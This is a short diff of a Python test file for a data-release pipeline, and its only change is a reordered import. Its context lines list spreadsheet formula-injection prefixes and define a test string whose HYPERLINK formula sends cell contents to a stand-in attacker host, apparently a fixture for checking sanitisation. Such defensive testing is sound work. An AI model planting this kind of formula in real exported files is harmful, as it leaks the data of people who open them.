@@ -10,9 +10,9 @@ from pathlib import Path
 import pyarrow as pa
 import pyarrow.compute as pc
 import pyarrow.parquet as pq
+from test_release import DAY, EXTRACTOR, _reseal, _writable, base_rows, write_database
 
 from pipeline.release import publish_release, verify_release
-from test_release import DAY, EXTRACTOR, _reseal, _writable, base_rows, write_database
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 EVIL_DOCUMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"open").txt'
